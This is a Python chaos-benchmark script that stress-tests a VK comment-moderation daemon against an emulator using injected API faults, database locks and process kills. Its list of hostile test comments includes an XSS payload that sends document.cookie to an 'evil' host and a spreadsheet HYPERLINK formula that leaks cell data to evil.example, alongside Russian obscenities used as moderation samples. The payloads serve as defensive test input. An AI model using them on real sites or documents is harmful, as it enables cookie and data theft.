"""Chaos benchmark: ``modbot run`` (a subprocess) against the VK emulator under a fixed, seeded fault schedule.

    .venv/bin/python bench/chaos.py [--minutes 5] [--rate 50] [--seed 7]

Two communities receive ``--rate`` comments/s for ``--minutes`` (the demo's realistic mix, one in
``--hostile-every`` replaced by a hostile comment: lone surrogates, bidi-wrapped and zero-width
мат, padding before мат, 100,000-character texts, NUL, HTML/JS, spreadsheet formulas, 64-bit and
10^30 author ids). Meanwhile the schedule below (times and windows for 5 minutes; ``--minutes``
scales them) injects, through the emulator's seeded fault plan and from this process:

* VK errors 6, 9, 10, 29 (transient), 14 (captcha), 5 and 27 (a token revoked / of the wrong kind
  for a while: the token's problem, never the actions'), 15, 100 and 901 aimed at single actions;
* HTTP 5xx, non-JSON answers and 3-second answers (API and long poll), long poll ``failed`` 1/2/3;
* the whole API down (connections refused) for 60 s;
* the database locked for 15 s (this process holds ``BEGIN EXCLUSIVE`` on the daemon's SQLite file);
* a SIGKILL of the daemon and an immediate restart.

After the traffic it waits (``--drain``) until the daemon has judged everything and its outbox is
empty, stops it with SIGTERM, and reports (the first four must be 0):

* ``lost`` — comments posted (10^30-author ones excepted: VK never sends such ids, the parser
  rejects them as malformed) that the daemon never judged;
* ``duplicate_actions`` — delete/ban calls VK performed beyond the first for the same target;
* ``stalled_pages`` — pages where, for more than 120 s, comments waited and none was judged;
* ``actions_failed_forever`` — actions left ``failed`` although their error was not one aimed at
  that action (a token or transient fault, all cleared by the end of the run), plus actions still
  pending after the drain;
* ``actions_failed_per_comment_errors`` — actions failed by an error the schedule aimed at them
  (15/100/901), out of ``aimed_errors_fired``;
* ``worst_latency_after_fault_ms`` (and per fault in ``latency_after_fault_ms``) — the worst
  comment posted → delete received by VK, over violating comments posted in the 30 s after a fault
  cleared; ``caught_up_s`` per fault — when the last comment posted during the fault got its delete,
  in seconds after the fault cleared;
* ``p50_ms``/``p99_ms`` over all deletes, ``healthz`` samples by answer (``ok``, ``degraded``,
  ``down``), ``log_tracebacks``, what happened to the hostile comments.

The last line printed is one JSON object; the line before it is the command that reproduces it.
"""

from __future__ import annotations

import argparse
import asyncio
import bisect
import contextlib
import json
import os
import random
import re
import socket
import sqlite3
import statistics
import sys
import time
from collections import Counter, defaultdict
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

import aiohttp

sys.path.insert(0, str(Path(__file__).resolve().parent))
from _common import ROOT, DaemonProc, db_counts, ensure_model, finish, vk_effects, wait_ready  # noqa: E402

from bot.demo.traffic import TrafficMix, load_rows  # noqa: E402
from bot.emulator import VKEmulator, VKState  # noqa: E402
from bot.emulator.vk import ControlError  # noqa: E402

GROUPS = ((1, "Администрация города Пятигорска", 100), (2, "Городская больница №1", 101))
POSTS_PER_GROUP = 5
BASE_SECONDS = 300.0  # the schedule is written for 5 minutes
STALL_S = 120.0  # the liveness rule: waiting work and no progress for 2 minutes
AFTER_CLEAR_S = 30.0
AIMED_CODES = frozenset({15, 100, 901})
POISON_AUTHOR = 10**30

CONFIG = """
database = "{db}"
log_level = "INFO"

[metrics]
host = "127.0.0.1"
port = {port}

[[communities]]
platform = "vk"
group_id = 1
name = "Администрация города Пятигорска"
group_token_env = "BENCH_G1"
user_token_env = "BENCH_U1"
mode = "enforce"

[[communities]]
platform = "vk"
group_id = 2
name = "Городская больница №1"
group_token_env = "BENCH_G2"
user_token_env = "BENCH_U2"
mode = "enforce"
"""

# --------------------------------------------------------------------------- hostile comments

#: (text, author, violating?) — violating: the judge should delete it (None: no expectation).
HOSTILE: list[tuple[str, int | None, bool | None]] = [
    ("иди нахуй \ud83d урод", None, True),
    ("спасибо за ремонт \udc00 дороги на Кирова", None, False),
    ("\u202eйух\u202c", None, True),
    ("\u2067иди нахуй, дебил\u2069", None, True),
    ("х\u200bу\u200bй вам, а не ремонт", None, True),
    (" " * 5000 + "иди нахуй, дебил", None, True),
    ("\n" * 5000 + "иди нахуй, дебил", None, True),
    ("хорошая погода сегодня " * 220 + "иди нахуй, дебил", None, True),
    ("Пятигорск " * 10_000, None, None),  # a flood: the judge may call it spam
    ("а" * 100_000, None, None),
    ("<script>alert(document.cookie)</script>", None, False),
    ('<img src=x onerror="fetch(\'//evil/\'+document.cookie)">', None, False),
    ('=HYPERLINK("http://evil.example/?"&A1,"Жалоба")', None, False),
    ("текст\x00с нулевым символом", None, False),
    ("\ufeff\u200d\u2060", None, False),
    ("блядь, опять отключили воду", 2**63 - 1, True),
    ("иди нахуй, дебил", POISON_AUTHOR, None),
]

# --------------------------------------------------------------------------- the schedule


@dataclass
class Step:
    """One entry of the schedule: at ``at`` s (of 300), for ``duration`` s (0 = an instant)."""

    name: str
    at: float
    duration: float = 0.0
    faults: list[dict[str, Any]] = field(default_factory=list)  # emulator faults (window = this step's)
    lp_fail: tuple[int, int] | None = None  # (group, failed)
    db_lock: bool = False
    kill: bool = False
    aimed: bool = False  # faults aimed at single actions (count 1, no window end)
    # filled while running
    started: float = 0.0  # wall clock
    cleared: float = 0.0


def schedule(tokens: dict[str, str]) -> list[Step]:
    u1, u2, g2 = tokens["BENCH_U1"], tokens["BENCH_U2"], tokens["BENCH_G2"]
    every = {"count": -1}
    return [
        Step("error 6 (too many requests), 30%", 10, 15, [{"error_code": 6, "probability": 0.3, **every}]),
        Step("error 15 aimed at one ban", 28, aimed=True, faults=[{"method": "groups.ban", "error_code": 15}]),
        Step("error 9 (flood control) on deletes, 30%", 36, 15,
             [{"method": "wall.deleteComment", "error_code": 9, "probability": 0.3, **every}]),
        Step("error 15 aimed at one delete", 45, aimed=True, faults=[{"method": "wall.deleteComment", "error_code": 15}]),
        Step("error 10 (internal), 30%", 55, 15, [{"error_code": 10, "probability": 0.3, **every}]),
        Step("HTTP 502 (API) / 503 (long poll)", 72, 12,
             [{"kind": "http", "status": 502, "probability": 0.3, **every},
              {"method": "longpoll", "kind": "http", "status": 503, "probability": 0.5, **every}]),
        Step("error 100 aimed at one ban", 80, aimed=True, faults=[{"method": "groups.ban", "error_code": 100}]),
        Step("non-JSON answers (API, long poll)", 88, 12,
             [{"kind": "nonjson", "probability": 0.3, **every},
              {"method": "longpoll", "kind": "nonjson", "probability": 0.3, **every}]),
        Step("slow answers (3 s), 50%", 102, 15, [{"kind": "delay", "delay": 3, "probability": 0.5, **every}]),
        Step("long poll failed 1 (page 1)", 110, lp_fail=(1, 1)),
        Step("error 5: admin token of page 1 revoked", 120, 20, [{"token": u1, "error_code": 5, **every}]),
        Step("long poll failed 2 (page 2)", 125, lp_fail=(2, 2)),
        Step("error 27: admin token of page 2 refused", 145, 15, [{"token": u2, "error_code": 27, **every}]),
        Step("long poll failed 3 (page 1)", 150, lp_fail=(1, 3)),
        Step("error 29 (rate limit reached) on deletes, 50%", 163, 10,
             [{"method": "wall.deleteComment", "error_code": 29, "probability": 0.5, **every}]),
        Step("error 901 aimed at one delete", 168, aimed=True, faults=[{"method": "wall.deleteComment",
                                                                        "error_code": 901}]),
        # A captcha pauses its token for MODBOT_CAPTCHA_PAUSE (60 s as shipped): placed just before the
        # outage so that its shadow does not blur the other faults' figures.
        Step("captcha (14) on bans, 50%", 172, 4, [{"method": "groups.ban", "error_code": 14, "probability": 0.5,
                                                     **every}]),
        Step("API down 60 s (connections refused)", 178, 60, [{"kind": "down", "mode": "refused"}]),
        Step("database locked 15 s", 242, 15, db_lock=True),
        Step("error 5: community token of page 2 revoked", 260, 10, [{"token": g2, "error_code": 5, **every}]),
        Step("long poll failed 2 (page 2, token revoked)", 261, lp_fail=(2, 2)),
        Step("SIGKILL + restart", 276, kill=True),
    ]


# --------------------------------------------------------------------------- running


def parse_args(argv: list[str] | None = None) -> argparse.Namespace:
    ap = argparse.ArgumentParser(description=__doc__.split("\n\n")[0])
    ap.add_argument("--minutes", type=float, default=5.0, help="traffic duration; the schedule scales (5)")
    ap.add_argument("--rate", type=float, default=50.0, help="comments per second over both pages (50)")
    ap.add_argument("--hostile-every", type=int, default=20, help="one comment in N is hostile (20)")
    ap.add_argument("--seed", type=int, default=7, help="seed of the traffic and of the fault plan (7)")
    ap.add_argument("--drain", type=float, default=300.0, help="max seconds to wait for the daemon to finish (300)")
    ap.add_argument("--out", help="work directory (default bench/out/chaos-<time>)")
    return ap.parse_args(argv)


def free_port() -> int:
    with socket.socket() as s:
        s.bind(("127.0.0.1", 0))
        return int(s.getsockname()[1])


@dataclass
class Posted:
    key: str
    group_id: int
    kind: str
    comment_id: int
    time_ms: float
    violating: bool | None
    hostile: bool = False
    poison: bool = False


class Chaos:
    def __init__(self, args: argparse.Namespace) -> None:
        self.args = args
        self.scale = args.minutes * 60.0 / BASE_SECONDS
        self.out = (Path(args.out) if args.out else ROOT / "bench" / "out" / time.strftime("chaos-%Y%m%d-%H%M%S")).resolve()
        self.out.mkdir(parents=True, exist_ok=True)
        self.db, self.cfg, self.log = self.out / "modbot.db", self.out / "modbot.toml", self.out / "daemon.log"
        for p in (self.db, Path(f"{self.db}-wal"), Path(f"{self.db}-shm"), self.log):
            p.unlink(missing_ok=True)
        self.state = VKState(lp_history=200_000, call_log_limit=4_000_000)
        self.emu = VKEmulator(self.state)
        self.posted: list[Posted] = []
        self.rejected = 0
        self.steps: list[Step] = []
        self.health: Counter[str] = Counter()
        self.health_reasons: Counter[str] = Counter()
        self.port = free_port()
        self.daemon: DaemonProc | None = None
        self.t0 = 0.0  # monotonic start of the traffic
        self.wall0 = 0.0

    # -- the world ------------------------------------------------------------------------------
    async def start(self) -> None:
        model = ensure_model(self.out)
        await self.emu.start()
        env = {**os.environ, "MODBOT_VK_API_URL": self.emu.api_url, "MODBOT_MODEL": str(model),
               "MODBOT_LONGPOLL_WAIT": "5", "PYTHONUNBUFFERED": "1"}
        self.posts: dict[int, list[int]] = {}
        for gid, name, admin in GROUPS:
            info = self.state.add_group(gid, name, admin_user_id=admin)
            env[f"BENCH_G{gid}"], env[f"BENCH_U{gid}"] = info["group_token"], info["user_token"]
            self.posts[gid] = [self.state.add_post(gid, f"Новость {i + 1}")["post_id"] for i in range(POSTS_PER_GROUP)]
        self.tokens = {k: v for k, v in env.items() if k.startswith("BENCH_")}
        self.cfg.write_text(CONFIG.format(db=self.db, port=self.port), encoding="utf-8")
        self.daemon = DaemonProc(self.cfg, env, self.log)
        await self.daemon.start()
        await wait_ready(self.log, 1)

    def arm(self) -> None:
        """Put the whole emulator-side schedule into the fault plan at once (seeded, windows relative to now)."""
        self.state.faults.reseed(self.args.seed)
        self.steps = schedule(self.tokens)
        for step in self.steps:
            at, dur = step.at * self.scale, step.duration * self.scale
            for f in step.faults:
                spec = dict(f)
                method = spec.pop("method", "*")
                kind = spec.pop("kind", "error")
                count = spec.pop("count", 1)
                if kind == "down":
                    self.state.add_fault(method, kind, after=at, duration=dur, **spec)
                elif step.aimed:
                    self.state.add_fault(method, kind, count, after=at, **spec)
                else:
                    self.state.add_fault(method, kind, count, after=at, duration=dur, **spec)

    # -- the schedule's own steps -------------------------------------------------------------------
    async def run_schedule(self) -> None:
        background: list[asyncio.Task[None]] = []
        for step in sorted(self.steps, key=lambda s: s.at):
            await asyncio.sleep(max(0.0, self.t0 + step.at * self.scale - time.monotonic()))
            step.started = time.time()
            print(f"  t={time.monotonic() - self.t0:6.1f}s  {step.name}", flush=True)
            if step.lp_fail:
                with contextlib.suppress(Exception):
                    self.state.lp_fail(*step.lp_fail)
            if step.db_lock:
                background.append(asyncio.create_task(self.hold_db_lock(step, step.duration * self.scale)))
            elif step.kill:
                background.append(asyncio.create_task(self.kill_and_restart(step)))
            else:
                step.cleared = step.started + step.duration * self.scale
        await asyncio.gather(*background)

    async def hold_db_lock(self, step: Step, seconds: float) -> None:
        con = sqlite3.connect(str(self.db), timeout=60, isolation_level=None, check_same_thread=False)
        try:
            await asyncio.to_thread(con.execute, "BEGIN EXCLUSIVE")
            step.started = time.time()
            await asyncio.sleep(seconds)
            con.execute("ROLLBACK")
        finally:
            con.close()
            step.cleared = time.time()

    async def kill_and_restart(self, step: Step) -> None:
        assert self.daemon is not None
        await self.daemon.kill()
        await self.daemon.start()
        with contextlib.suppress(SystemExit):
            await wait_ready(self.log, self.daemon.starts, timeout=120)
        step.cleared = time.time()

    async def sample_health(self) -> None:
        url = f"http://127.0.0.1:{self.port}/healthz"
        async with aiohttp.ClientSession(timeout=aiohttp.ClientTimeout(total=3)) as http:
            while True:
                try:
                    async with http.get(url) as r:
                        body = await r.text()
                    try:
                        data = json.loads(body)
                    except ValueError:
                        data = {}
                    status = str(data.get("status") or ("ok" if r.status == 200 else f"http {r.status}"))
                    self.health[status] += 1
                    if status != "ok":
                        for reason in data.get("reasons") or data.get("problems") or []:
                            self.health_reasons[re.sub(r"\d+(\.\d+)?", "N", str(reason))[:90]] += 1
                except (aiohttp.ClientError, TimeoutError, OSError):
                    self.health["down"] += 1
                if self.daemon is not None:
                    self.daemon.sample()
                await asyncio.sleep(2.0)

    # -- traffic ------------------------------------------------------------------------------------
    def post(self, group_id: int, author: int, text: str, kind: str, violating: bool | None, *, hostile: bool,
             rng: random.Random, mix: TrafficMix) -> None:
        for _attempt in range(3):
            try:
                parent = rng.choice(self.posts[group_id]) if kind == "wall" else None
                r = self.state.post_comment(group_id, author, text, kind, parent_id=parent)
            except ControlError as exc:
                if exc.extra.get("reason") != "banned":
                    raise
                self.rejected += 1
                author = mix.new_author()
                continue
            parent_field = {"wall": "post_id", "photo": "photo_id", "video": "video_id", "board": "topic_id",
                            "market": "item_id", "message": "peer_id"}[kind]
            key = f"vk:{group_id}:{kind}:{r[parent_field]}:{r['comment_id']}"
            self.posted.append(Posted(key, group_id, kind, int(r["comment_id"]), float(r["time_ms"]), violating,
                                      hostile, author == POISON_AUTHOR))
            return

    async def traffic(self) -> None:
        args = self.args
        rng = random.Random(args.seed)
        mix = TrafficMix(load_rows(), [g for g, _, _ in GROUPS], seed=args.seed, all_kinds=False)
        stream = iter(mix)
        seconds = args.minutes * 60.0
        n = 0
        hostile_i = 0
        while (elapsed := time.monotonic() - self.t0) < seconds:
            due = int(args.rate * elapsed) - n
            for _ in range(max(0, due)):
                n += 1
                if args.hostile_every and n % args.hostile_every == 0:
                    text, author, violating = HOSTILE[hostile_i % len(HOSTILE)]
                    hostile_i += 1
                    self.post(rng.choice([g for g, _, _ in GROUPS]), author or mix.new_author(), text, "wall",
                              violating, hostile=True, rng=rng, mix=mix)
                else:
                    p = next(stream)
                    self.post(p.group_id, p.author_id, p.text, p.vk_kind, p.row.violating, hostile=False, rng=rng,
                              mix=mix)
            await asyncio.sleep(0.01)

    async def run(self) -> dict[str, Any]:
        await self.start()
        assert self.daemon is not None
        print(f"daemon up; {self.args.rate:g} comments/s on 2 pages for {self.args.minutes:g} min "
              f"(schedule ×{self.scale:.2f}), seed {self.args.seed}; work dir {self.out}", flush=True)
        self.t0, self.wall0 = time.monotonic(), time.time()
        self.arm()
        health = asyncio.get_running_loop().create_task(self.sample_health())
        sched = asyncio.get_running_loop().create_task(self.run_schedule())
        await self.traffic()
        traffic_s = time.monotonic() - self.t0
        valid = sum(1 for p in self.posted if not p.poison)
        print(f"posted {len(self.posted)} comments in {traffic_s:.0f} s; waiting for the daemon to finish", flush=True)
        with contextlib.suppress(asyncio.CancelledError):
            await asyncio.wait_for(sched, timeout=180)
        deadline = time.monotonic() + self.args.drain
        while time.monotonic() < deadline:
            judged, pending = db_counts(self.db)
            if judged >= valid and pending == 0:
                break
            await asyncio.sleep(1.0)
        drain_s = time.monotonic() - self.t0 - traffic_s
        health.cancel()
        exit_code = await self.daemon.stop()
        figures = self.analyse()
        figures.update({"minutes": self.args.minutes, "rate": self.args.rate, "seed": self.args.seed,
                        "posted": len(self.posted), "rejected_banned_authors": self.rejected,
                        "drain_s": round(drain_s, 1), "daemon_starts": self.daemon.starts, "exit_code": exit_code,
                        "peak_rss_mb": round(self.daemon.peak_rss, 1), "healthz": dict(self.health),
                        "healthz_reasons": dict(self.health_reasons.most_common(5)), "work_dir": str(self.out)})
        await self.emu.stop()
        return figures

    # -- figures ------------------------------------------------------------------------------------
    def analyse(self) -> dict[str, Any]:
        con = sqlite3.connect(f"file:{self.db}?mode=ro", uri=True, timeout=30)
        try:
            decided: dict[str, list[float]] = defaultdict(list)
            for key, at in con.execute("SELECT c.key, d.at FROM decisions d JOIN comments c ON c.id = d.comment_row "
                                       "WHERE d.decided_by = 'auto'"):
                decided[key].append(float(at))
            actions = [dict(zip(("id", "kind", "method", "params", "state", "error", "attempts"), r, strict=True))
                       for r in con.execute("SELECT id, kind, method, params, state, last_error, attempts FROM actions")]
        finally:
            con.close()
        first_delete, delete_counts, ban_counts = vk_effects(self.state)
        self.dump(delete_counts, ban_counts)
        valid = [p for p in self.posted if not p.poison]
        lost = [p for p in valid if p.key not in decided]

        # Errors the schedule aimed at single actions, as VK answered them (target of each).
        aimed: set[tuple[str, str]] = set()
        for c in self.state.calls():
            if c["error_code"] in AIMED_CODES:
                aimed.add(target(c["method"], c["params"]))
        failed = [a for a in actions if a["state"] == "failed"]
        per_comment = [a for a in failed if target(a["method"], _params(a["params"])) in aimed]
        pending = [a for a in actions if a["state"] == "pending"]

        # Latencies: posted → first delete VK received.
        lat = {}
        for p in valid:
            t = first_delete.get((p.kind, p.group_id, p.comment_id))
            if t is not None:
                lat[p.key] = t - p.time_ms
        lats = sorted(lat.values())

        after_clear: dict[str, float | None] = {}
        caught_up: dict[str, float | None] = {}
        by_time = sorted(valid, key=lambda p: p.time_ms)
        times = [p.time_ms for p in by_time]
        for step in self.steps:
            if not step.cleared or step.aimed:
                continue
            start_ms, clear_ms = step.started * 1000, step.cleared * 1000
            lo, hi = bisect.bisect_left(times, clear_ms), bisect.bisect_left(times, clear_ms + AFTER_CLEAR_S * 1000)
            window = [lat[p.key] for p in by_time[lo:hi] if p.key in lat]
            after_clear[step.name] = round(max(window), 1) if window else None
            during = [p for p in by_time[bisect.bisect_left(times, start_ms):lo] if p.key in lat]
            caught_up[step.name] = (round(max(p.time_ms + lat[p.key] for p in during) / 1000 - step.cleared, 1)
                                    if during else None)
        worst_after = max((v for v in after_clear.values() if v is not None), default=None)

        hostile = [p for p in valid if p.hostile]
        deleted_keys = {p.key for p in valid if (p.kind, p.group_id, p.comment_id) in first_delete}
        text = self.log.read_text(errors="replace") if self.log.exists() else ""
        return {
            "lost": len(lost),
            "duplicate_actions": sum(n - 1 for n in delete_counts.values() if n > 1)
            + sum(n - 1 for n in ban_counts.values() if n > 1),
            "stalled_pages": len(stalled_pages(valid, decided, time.time())),
            "actions_failed_forever": len(failed) - len(per_comment) + len(pending),
            "actions_failed_per_comment_errors": len(per_comment),
            "aimed_errors_fired": len(aimed),
            "worst_latency_after_fault_ms": worst_after,
            "latency_after_fault_ms": after_clear,
            "caught_up_s": caught_up,
            "duplicate_decisions": sum(len(v) - 1 for v in decided.values() if len(v) > 1),
            "judged": len(valid) - len(lost), "posted_valid": len(valid),
            "poison_posted": len(self.posted) - len(valid),
            "deleted": len(delete_counts), "banned": len(ban_counts),
            "actions": len(actions), "actions_failed": len(failed), "actions_pending": len(pending),
            "failed_errors": dict(Counter(_short(a["error"]) for a in failed if a not in per_comment).most_common(5)),
            "p50_ms": round(lats[len(lats) // 2], 1) if lats else None,
            "p99_ms": round(lats[min(len(lats) - 1, int(0.99 * len(lats)))], 1) if lats else None,
            "mean_ms": round(statistics.fmean(lats), 1) if lats else None,
            "hostile_posted": len(hostile),
            "hostile_judged": sum(1 for p in hostile if p.key in decided),
            "hostile_violations_missed": sum(1 for p in hostile if p.violating and p.key not in deleted_keys),
            "hostile_clean_removed": sum(1 for p in hostile if p.violating is False and p.key in deleted_keys),
            "log_tracebacks": text.count("Traceback"),
            "log_malformed": text.count("malformed VK event"),
        }


    def dump(self, delete_counts: Counter, ban_counts: Counter) -> None:
        """For a post-mortem: what was posted, and every call VK got about a target acted on twice."""
        with (self.out / "posted.jsonl").open("w", encoding="utf-8") as fh:
            for p in self.posted:
                fh.write(json.dumps(p.__dict__, ensure_ascii=True) + "\n")
        twice = {f"{-g}:{c}" for (_, g, c), n in delete_counts.items() if n > 1}
        twice |= {f"{g}:{u}" for (g, u), n in ban_counts.items() if n > 1}
        with (self.out / "calls.jsonl").open("w", encoding="utf-8") as fh:
            for c in self.state.calls():
                if c["method"] in ("wall.deleteComment", "groups.ban", "execute") or c["error_code"] is not None:
                    rec = {k: c.get(k) for k in ("seq", "time_ms", "method", "params", "via", "parent", "error_code",
                                                 "http_status", "response", "duration_ms")}
                    rec["twice"] = target(c["method"], c["params"] or {})[1] in twice
                    fh.write(json.dumps(rec, ensure_ascii=True, default=str) + "\n")


def _params(raw: Any) -> dict[str, Any]:
    if isinstance(raw, dict):
        return raw
    try:
        return json.loads(raw or "{}")
    except ValueError:
        return {}


def _short(error: str | None) -> str:
    return (error or "")[:60]


def target(method: str, params: dict[str, Any]) -> tuple[str, str]:
    """What an action or an API call is about: the method and the ids that name its object."""
    names = ("owner_id", "comment_id") if method.endswith("Comment") else ("group_id", "owner_id")
    return method, ":".join(str(params.get(n, "")) for n in names)


def stalled_pages(posted: list[Posted], decided: dict[str, list[float]], end: float) -> set[int]:
    """Pages with a stretch of more than STALL_S seconds in which a comment waited and nothing was judged.

    Per page, only the gaps between consecutive judgements (and after the last one, to ``end``) can
    hide a stall; a gap (a, b) is one if a comment posted before ``b - STALL_S`` was still waiting at
    ``a + STALL_S`` — judged at ``b`` or later, or never."""
    out: set[int] = set()
    pages: dict[int, list[Posted]] = defaultdict(list)
    for p in posted:
        pages[p.group_id].append(p)
    for page, items in pages.items():
        judged_at = sorted(min(decided[p.key]) for p in items if p.key in decided)
        edges = [min(p.time_ms for p in items) / 1000, *judged_at, end]
        for a, b in zip(edges, edges[1:], strict=False):
            if b - a <= STALL_S:
                continue
            for p in items:
                posted_s = p.time_ms / 1000
                done = min(decided[p.key]) if p.key in decided else end
                if done >= b and max(a, posted_s) + STALL_S < b:
                    out.add(page)
                    break
            if page in out:
                break
    return out


def main(argv: list[str] | None = None) -> int:
    args = parse_args(argv)
    figures = asyncio.run(Chaos(args).run())
    print(json.dumps(figures, ensure_ascii=False, indent=2), flush=True)
    finish(figures)
    must_be_zero = ("lost", "duplicate_actions", "stalled_pages", "actions_failed_forever")
    return 1 if any(figures[k] for k in must_be_zero) else 0


if __name__ == "__main__":
    with contextlib.suppress(KeyboardInterrupt):
        sys.exit(main())
